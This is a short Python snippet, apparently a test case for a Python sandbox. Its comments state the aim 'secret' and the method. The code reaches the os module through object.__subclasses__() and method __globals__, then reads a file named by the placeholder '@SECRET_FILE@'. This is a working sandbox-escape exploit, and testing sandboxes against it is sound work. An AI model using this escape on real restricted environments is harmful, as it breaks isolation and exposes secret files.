# aim = "secret"
# tries = "Reaches `os` through the globals of some class's method."
plain = [c.__init__ for c in object.__subclasses__() if hasattr(c.__init__, "__globals__")]
system = next(f.__globals__["sys"] for f in plain if "sys" in f.__globals__).modules["os"]
print(system.read(system.open("@SECRET_FILE@", 0), 1000))
